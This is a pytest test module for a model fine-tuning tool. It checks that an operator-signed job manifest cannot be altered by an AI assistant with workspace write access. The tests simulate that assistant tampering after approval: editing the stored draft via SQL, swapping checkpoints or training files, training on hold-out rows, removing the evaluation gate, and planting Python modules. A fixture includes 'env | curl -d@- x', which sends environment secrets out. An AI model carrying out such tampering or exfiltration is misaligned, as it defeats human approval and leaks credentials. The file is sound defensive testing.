"""What is signed is what runs (issue 17): the adversarial table for the signed manifest.

Each case is something the assistant can do (it writes every file in the workspace,
``.tunestep/`` included, and the model store through its link) after the operator signed,
done through the storage underneath (an SQLite UPDATE, a file swapped at an exact point
of the job, a module planted in the workspace), and the named refusal that must answer it.
Swaps "between the check and the read" use the job's fault point ``TUNESTEP_JOB_PAUSE``
(tools/jobs/job_config.pause), never a timing race.
"""

from __future__ import annotations

import hashlib
import shutil
import time
from pathlib import Path

import hub_stub
import orjson
import pytest

from tunestep.tools.core import ledger
from tunestep.tools.core.errors import TunestepError
from tunestep.tools.core.workspace import Workspace
from tunestep.tools.drafts.draft import DraftRequest, draft_job, load_draft
from tunestep.tools.lineage.model_store import latest_checkpoint
from tunestep.tools.runs.job_control import job_logs, wait_for_job
from tunestep.tools.runs.submit import submit_job

pytestmark = pytest.mark.e2e

STORE_LINK = "models/qwen3_webdev"
fake_hub = hub_stub.fake_hub


def _code(call, *args) -> str:
    with pytest.raises(TunestepError) as err:
        call(*args)
    return err.value.code


def _jobs(ws: Workspace) -> int:
    with ledger.open_ledger(ws) as conn:
        return conn.execute("SELECT count(*) FROM jobs").fetchone()[0]


def _stored_manifest(ws: Workspace, draft_id: str) -> dict:
    with ledger.open_ledger(ws) as conn:
        row = conn.execute("SELECT manifest FROM drafts WHERE draft_id = ?",
                           (draft_id,)).fetchone()
    return orjson.loads(bytes(row["manifest"]))


def _update_manifest(ws: Workspace, draft_id: str, manifest: dict, *,
                     digest_too: bool = False) -> None:
    data = orjson.dumps(manifest, option=orjson.OPT_SORT_KEYS)
    with ledger.open_ledger(ws) as conn, ledger.transaction(conn):
        conn.execute("UPDATE drafts SET manifest = ? WHERE draft_id = ?", (data, draft_id))
        if digest_too:  # the attacker keeps digest and bytes consistent
            conn.execute("UPDATE drafts SET digest = ? WHERE draft_id = ?",
                         (hashlib.sha256(data).hexdigest(), draft_id))


def _with_prior_version(ws: Workspace) -> Path:
    """A step 1 recorded as a local job leaves it (its version's files recorded, latest
    moved), and batch 2 mapped: the next draft (batch_100_02) resumes from that version."""
    from chain_helpers import fake_local_version, record_job_end

    from tunestep.tools.data.mapping import apply_mapping, suggest_mapping

    store = ws.resolve_model_store(STORE_LINK)
    record_job_end(ws, draft_job(ws, DraftRequest(batch="batch_100_01")).draft_id, "local",
                   {"version": "versions/0001_batch_100_01", "hub": None})
    prior = fake_local_version(ws, store / "versions/0000_base", "0001_batch_100_01")
    source = "datasets/incremental/batch_100_02"
    apply_mapping(ws, source, suggest_mapping(ws, source).mapping)
    return prior


def _paused(monkeypatch, tmp_path: Path, stage: str) -> Path:
    folder = tmp_path / "pause"
    folder.mkdir(exist_ok=True)
    monkeypatch.setenv("TUNESTEP_JOB_PAUSE", f"{stage}:{folder}")
    return folder


def _wait_reached(ws: Workspace, job_id: str, folder: Path, stage: str) -> None:
    deadline = time.monotonic() + 180
    while not (folder / f"{stage}.reached").exists():
        status = wait_for_job(ws, job_id, timeout=0.5)
        assert not status.terminal, job_logs(ws, job_id, 40).lines
        assert time.monotonic() < deadline, "the job never reached its pause point"


def _failed_with(ws: Workspace, job_id: str, code: str) -> None:
    status = wait_for_job(ws, job_id, timeout=300)
    lines = job_logs(ws, job_id, 60).lines
    assert status.status == "failed", lines
    assert status.result.get("code") == code, (status.result, lines)


def _corrupt(path: Path) -> bytes:
    """Flip the file's last bytes (same size); returns the original bytes."""
    original = path.read_bytes()
    path.write_bytes(original[:-8] + bytes(b ^ 0xFF for b in original[-8:]))
    return original


# --- 1. the stored draft changed after signing ----------------------------------------

SUBMISSION = {"image": "evil/image:latest", "command": ["bash", "-c", "env | curl -d@- x"],
              "flavor": "h200x8", "timeout_seconds": 604800, "labels": {},
              "secrets": ["HF_TOKEN"], "dataset_repo": "evil/steps", "bundle": {}}


def _eval_as_train(m: dict) -> None:
    m["job_config"]["train_files"] = [m["job_config"]["eval_file"]]


EDITS = {
    "flavor": lambda m: m.update(flavor="h200x8"),
    "timeout": lambda m: m.update(timeout_seconds=604800),
    "command": lambda m: m.update(submission=SUBMISSION),
    "backend": lambda m: m.update(backend="hf-jobs", flavor="h200x8", submission=SUBMISSION),
    "train files": _eval_as_train,
    "gate": lambda m: m["job_config"].update(gate={
        "metric": "parse_rate", "margin": 0.99}),
}


def test_an_sqlite_update_of_the_signed_draft_is_refused(model_ws, operator):
    """Case: UPDATE drafts SET manifest=... after signing (each of EDITS) ->
    draft_tampered, from load_draft and submit_job; with the digest column rewritten to
    match the new bytes -> still draft_tampered (the draft id derives from the digest),
    and a token for the new id would name another draft. Nothing starts."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))
    token = operator.approve(ws, draft.draft_id)
    signed = _stored_manifest(ws, draft.draft_id)
    for name, edit in EDITS.items():
        manifest = orjson.loads(orjson.dumps(signed))
        edit(manifest)
        assert manifest != signed, name
        _update_manifest(ws, draft.draft_id, manifest)
        assert _code(load_draft, ws, draft.draft_id) == "draft_tampered", name
        assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) == \
            "draft_tampered", name
        _update_manifest(ws, draft.draft_id, manifest, digest_too=True)
        assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) == \
            "draft_tampered", name
        assert _jobs(ws) == 0, name
    _update_manifest(ws, draft.draft_id, signed, digest_too=True)  # the signed bytes back
    assert load_draft(ws, draft.draft_id).digest == draft.digest


def test_the_unsigned_view_never_feeds_execution(model_ws, operator):
    """Case: the stored view (estimate, warnings) edited: it is shown, not run; the
    draft's signed fields still come from the manifest bytes."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))
    with ledger.open_ledger(ws) as conn, ledger.transaction(conn):
        row = conn.execute("SELECT payload FROM drafts").fetchone()
        view = orjson.loads(row["payload"])
        assert set(view) == {"estimate", "warnings", "run_plan", "approve_command", "lengths"}
        view["job_config"] = {"gate": None}  # not a field of the view: ignored
        conn.execute("UPDATE drafts SET payload = ?", (orjson.dumps(view),))
    loaded = load_draft(ws, draft.draft_id)
    assert loaded.job_config == draft.job_config and loaded.manifest == draft.manifest
    assert hashlib.sha256(loaded.manifest.encode()).hexdigest() == draft.digest
    assert draft.draft_id == f"draft-{draft.digest[:12]}"


# --- 2. the local resume checkpoint --------------------------------------------------


def test_a_local_resume_checkpoint_changed_after_approval_is_stale(model_ws, operator):
    """Case: a weight file of the local start changed after approval -> draft_stale."""
    ws = model_ws
    prior = _with_prior_version(ws)
    draft = draft_job(ws, DraftRequest(batch="batch_100_02"))
    assert draft.job_config["checkpoint"]["of"] == "resume_from"
    signed = {f["path"] for f in draft.job_config["checkpoint"]["files"]}
    assert "model.safetensors" in signed
    token = operator.approve(ws, draft.draft_id)
    _corrupt(prior / "model.safetensors")
    jobs = _jobs(ws)  # step 1's
    with pytest.raises(TunestepError) as err:
        submit_job(ws, draft.draft_id, token, operator.trusted)
    # the recompute hashes the start again; the version's own record (evidence) may
    # name it first
    assert err.value.code in ("draft_stale", "version_files_changed")
    assert "model.safetensors" in err.value.message
    assert _jobs(ws) == jobs


def test_a_checkpoint_swapped_after_submit_is_refused_by_the_job(
        model_ws, operator, tmp_path, monkeypatch):
    """Case: the checkpoint changed between the host's check and the job's read (and
    restored afterwards) -> the job refuses, input_changed; latest stays."""
    ws = model_ws
    prior = _with_prior_version(ws)
    draft = draft_job(ws, DraftRequest(batch="batch_100_02"))
    pause = _paused(monkeypatch, tmp_path, "before_inputs")
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _wait_reached(ws, handle.job_id, pause, "before_inputs")
    original = _corrupt(prior / "model.safetensors")
    (pause / "before_inputs.go").touch()
    _failed_with(ws, handle.job_id, "input_changed")
    (prior / "model.safetensors").write_bytes(original)  # restored: nothing shows it
    assert latest_checkpoint(ws.resolve_model_store(STORE_LINK)).name == "0001_batch_100_01"


# --- 3. derived data: tokenized dataset, merged file ----------------------------------


def test_a_poisoned_tokenized_dataset_with_its_cache_rewritten_is_refused(
        model_ws, operator, tmp_path, monkeypatch):
    """Case: a tokenized dataset's rows rewritten and its cache record's hashes rewritten
    to match: after approval -> draft_stale; after submit, before the job reads it ->
    the job refuses, input_changed."""
    from tunestep.tools.data.preprocess import preprocess
    from tunestep.tools.data.tokenized_cache import CACHE_FILE

    ws = model_ws
    result = preprocess(ws, "batch_100_01", max_length=4096)  # no row over-long
    folder = ws.root / result.path
    request = DraftRequest(batch="batch_100_01", overrides={"max_length": 4096})

    def poison() -> None:
        arrow = max(folder.glob("*.arrow"), key=lambda p: p.stat().st_size)
        _corrupt(arrow)
        record = orjson.loads((folder / CACHE_FILE).read_bytes())
        for entry in record["files"]:
            path = folder / entry["name"]
            entry.update(sha256=hashlib.sha256(path.read_bytes()).hexdigest(),
                         size=path.stat().st_size)
        (folder / CACHE_FILE).write_bytes(orjson.dumps(record))

    backup = tmp_path / "tokenized-backup"
    shutil.copytree(folder, backup)
    draft = draft_job(ws, request)
    assert draft.job_config["tokenized_dir"] == result.path
    assert draft.job_config["tokenized_files"], "every tokenized file is signed"
    token = operator.approve(ws, draft.draft_id)
    poison()
    assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) == "draft_stale"

    shutil.rmtree(folder)
    shutil.copytree(backup, folder)
    pause = _paused(monkeypatch, tmp_path, "before_inputs")
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _wait_reached(ws, handle.job_id, pause, "before_inputs")
    poison()
    (pause / "before_inputs.go").touch()
    _failed_with(ws, handle.job_id, "input_changed")


def test_a_merged_file_with_holdout_rows_appended_is_not_believed(tmp_path, tiny_model_dir,
                                                                   operator):
    """Case: strategy file, hold-out rows appended to the merged file and its manifest's
    hash and count rewritten: a draft re-derives it (the rows it signs are the real ones);
    after approval the submit refuses (draft_stale)."""
    from tunestep.tools.core.plan import load_plan
    from tunestep.tools.core.workspace import open_workspace
    from tunestep.tools.data.data_writer import manifest_path
    from tunestep.tools.data.merge import merge_datasets
    from tunestep.tools.demo.sample_workspace import build_sample_workspace

    store = tmp_path / "store"
    shutil.copytree(tiny_model_dir, store / "qwen3_webdev" / "versions" / "0000_base")
    build_sample_workspace(tmp_path / "ws", store=store, with_model=True,
                           plan_overrides={"data": {"merge_strategy": "file"}})
    ws = open_workspace(tmp_path / "ws")
    merge_datasets(ws, "batch_100_01")
    plan = load_plan(ws).plan
    merged = ws.resolve(plan.paths.merged)
    honest = merged.read_bytes()
    holdout = ws.resolve(plan.paths.validation).read_bytes()

    def poison() -> None:
        merged.write_bytes(honest + holdout)
        record = orjson.loads(manifest_path(merged).read_bytes())
        record["output"]["sha256"] = hashlib.sha256(honest + holdout).hexdigest()
        record["output"]["rows"] += holdout.count(b"\n")
        manifest_path(merged).write_bytes(orjson.dumps(record))

    poison()
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))
    (train,) = [f for f in draft.files if f.role == "train"]
    assert train.sha256 == hashlib.sha256(honest).hexdigest()
    assert train.rows == honest.count(b"\n") and merged.read_bytes() == honest
    token = operator.approve(ws, draft.draft_id)
    poison()
    assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) in (
        "draft_stale", "merge_stale")
    assert _jobs(ws) == 0


# --- 4. between the check and the read; job.json; the job's scripts -------------------


def test_a_train_file_swapped_before_the_jobs_read_is_refused(
        model_ws, operator, tmp_path, monkeypatch):
    """Case: a train file replaced by hold-out rows between submit's check and the job's
    read, restored afterwards -> the job refuses (input_changed), nothing trained."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))
    train = ws.root / draft.job_config["train_files"][0]["path"]
    holdout = ws.root / draft.job_config["eval_file"]["path"]
    pause = _paused(monkeypatch, tmp_path, "before_inputs")
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _wait_reached(ws, handle.job_id, pause, "before_inputs")
    original = train.read_bytes()
    train.write_bytes(holdout.read_bytes())
    (pause / "before_inputs.go").touch()
    _failed_with(ws, handle.job_id, "input_changed")
    train.write_bytes(original)
    assert latest_checkpoint(ws.resolve_model_store(STORE_LINK)).name == "0000_base"


def _start_after(monkeypatch, change) -> None:
    """Run ``change(job folder)`` between submit writing the job folder and the job's start."""
    from tunestep.tools.runs import local_backend as local

    real = local.start

    def start(ws, job_id, **kwargs):
        change(local.job_dir(ws, job_id))
        return real(ws, job_id, **kwargs)

    monkeypatch.setattr(local, "start", start)


def test_job_json_rewritten_between_submit_and_start_is_refused(model_ws, operator,
                                                                  monkeypatch):
    """Case: job.json rewritten (the gate removed, the hold-out trained on) after submit
    wrote it -> the job refuses before anything else (config_tampered)."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))

    def rewrite(folder: Path) -> None:
        config = orjson.loads((folder / "job.json").read_bytes())
        config["train_files"] = [config["eval_file"]]
        config["gate"] = None
        (folder / "job.json").write_bytes(orjson.dumps(config, option=orjson.OPT_SORT_KEYS))

    _start_after(monkeypatch, rewrite)
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _failed_with(ws, handle.job_id, "config_tampered")


def test_a_job_script_rewritten_after_submit_never_runs(model_ws, operator, monkeypatch,
                                                        tmp_path):
    """Case: a job module in the job folder rewritten after submit -> the supervisor
    refuses it (job_script_changed) before any job code runs."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01"))
    marker = tmp_path / "ran"

    def plant(folder: Path) -> None:
        with open(folder / "job_common.py", "a") as handle:
            handle.write(f"\nopen({str(marker)!r}, 'w').write('x')\n")

    _start_after(monkeypatch, plant)
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _failed_with(ws, handle.job_id, "job_script_changed")
    assert not marker.exists()


def test_inputs_swapped_after_the_jobs_read_and_planted_modules_change_nothing(
        model_ws, operator, tmp_path, monkeypatch):
    """Case: the train file swapped for 5 hold-out rows right after the job verified it
    (and restored at the end), and an ``orjson.py`` and a ``trl.py`` planted in the
    workspace and the job folder: the job trains on the signed rows from its private
    copy, and no planted module runs (python -I; the job's modules loaded by file)."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01",
                                       overrides={"num_train_epochs": 1.0}))
    marker = tmp_path / "planted-ran"
    payload = f"open({str(marker)!r}, 'a').write(__name__)\n"
    for name in ("orjson.py", "trl.py", "job_common.py"):
        (ws.root / name).write_text(payload)
    _start_after(monkeypatch, lambda folder: [(folder / n).write_text(payload)
                                              for n in ("orjson.py", "trl.py")])
    rows = sum(f.rows or 0 for f in draft.files if f.role == "train")
    train = ws.root / draft.job_config["train_files"][0]["path"]
    holdout = (ws.root / draft.job_config["eval_file"]["path"]).read_bytes()
    pause = _paused(monkeypatch, tmp_path, "after_inputs")
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _wait_reached(ws, handle.job_id, pause, "after_inputs")
    original = train.read_bytes()
    train.write_bytes(b"".join(holdout.splitlines(keepends=True)[:5]))
    (pause / "after_inputs.go").touch()
    status = wait_for_job(ws, handle.job_id, timeout=900)
    train.write_bytes(original)
    log = (ws.root / "logs/train.log").read_text()
    assert status.status == "succeeded", job_logs(ws, handle.job_id, 60).lines
    assert f"train rows: {rows} of {rows}" in log
    assert not marker.exists(), marker.read_text()


# --- 5. the Hub: adoption by nonce label, malformed answers --------------------------


def test_a_hub_job_with_the_nonce_label_but_another_flavor_is_not_adopted(
        tmp_path, monkeypatch, fake_hub):
    """Case: a Hub job carrying the token's nonce label but another flavor -> the submit
    refuses (hf_job_mismatch) and neither adopts it nor starts another."""
    import types

    from conftest import FAKE_TOKEN, Operator
    from huggingface_hub.utils import _http

    from tunestep.tools.core.workspace import open_workspace
    from tunestep.tools.demo.sample_workspace import build_sample_workspace
    from tunestep.tools.hub.jobs_api import hub_api
    from tunestep.tools.runs.hf_submit import NONCE_LABEL

    monkeypatch.setenv("HF_TOKEN", FAKE_TOKEN)
    monkeypatch.setenv("TUNESTEP_HUB_TIMEOUT", "0.5")
    monkeypatch.setattr(_http, "time", types.SimpleNamespace(sleep=lambda _s: None))
    repo = f"{hub_stub.USER}/steps"
    build_sample_workspace(tmp_path / "ws", plan_overrides={"hub": {"dataset_repo": repo}})
    ws = open_workspace(tmp_path / "ws")
    operator = Operator(tmp_path / "keys")
    draft = draft_job(ws, DraftRequest(kind="inspect", batch="batch_100_01",
                                       backend="hf-jobs"))
    token = operator.approve(ws, draft.draft_id)
    fake_hub.inject("POST", f"/api/jobs/{hub_stub.USER}", "503", times=1)
    assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) == \
        "hub_unavailable"
    with ledger.open_ledger(ws) as conn:
        nonce = conn.execute("SELECT nonce FROM approvals").fetchone()[0]
    hub_api(FAKE_TOKEN).run_job(
        image=draft.submission.image, command=draft.submission.command,
        flavor="h200x8", namespace=hub_stub.USER,
        labels={NONCE_LABEL: nonce, "tunestep-draft": draft.draft_id})
    assert _code(submit_job, ws, draft.draft_id, token, operator.trusted) == \
        "hf_job_mismatch"
    assert len(fake_hub.jobs) == 1
    with ledger.open_ledger(ws) as conn:
        row = conn.execute("SELECT status, external_id FROM jobs").fetchone()
    assert row["status"] == "submitting" and row["external_id"] is None


def test_a_labels_list_in_a_hub_answer_is_a_named_error():
    """Case: the Hub answers a job's labels as a list (or another malformed job)."""
    from huggingface_hub import JobInfo

    from tunestep.tools.hub.job_info import status_of

    job = {"id": "j1", "owner": {"id": "u", "name": "u", "type": "user"},
           "status": {"stage": "RUNNING"}, "flavor": "cpu-basic", "labels": ["a", "b"]}
    with pytest.raises(TunestepError) as err:
        status_of(JobInfo(**job))
    assert err.value.code == "hub_bad_response"
    job.update(labels={"a": "b"}, command="not a list")
    with pytest.raises(TunestepError) as err:
        status_of(JobInfo(**job))
    assert err.value.code == "hub_bad_response"


def test_the_jobs_sibling_list_is_the_shipped_modules():
    """The job loads exactly its shipped modules by file: the finder's names are JOB_FILES."""
    import ast

    from tunestep.tools.jobs import JOB_FILES, JOB_SCRIPT

    source = (Path(__file__).resolve().parent.parent / "tools/jobs" / JOB_SCRIPT).read_text()
    tree = ast.parse(source)
    names = next(node for node in ast.walk(tree) if isinstance(node, ast.Assign)
                 and getattr(node.targets[0], "id", "") == "_SIBLINGS")
    listed = {elt.value for elt in names.value.args[0].elts}
    assert listed == {n[:-3] for n in JOB_FILES if n.endswith(".py") and n != JOB_SCRIPT}


def test_a_local_job_stops_at_its_signed_time_limit(model_ws, operator, tmp_path,
                                                     monkeypatch):
    """The manifest's timeout_seconds holds for a local job too: held at its pause point
    past a 1 minute limit, the job is stopped and fails with job_timeout."""
    ws = model_ws
    draft = draft_job(ws, DraftRequest(batch="batch_100_01", timeout="1m"))
    assert draft.timeout_seconds == 60 and draft.backend == "local"
    pause = _paused(monkeypatch, tmp_path, "before_inputs")
    handle = submit_job(ws, draft.draft_id, operator.approve(ws, draft.draft_id),
                        operator.trusted)
    _wait_reached(ws, handle.job_id, pause, "before_inputs")  # never released
    _failed_with(ws, handle.job_id, "job_timeout")
    assert latest_checkpoint(ws.resolve_model_store(STORE_LINK)).name == "0000_base"
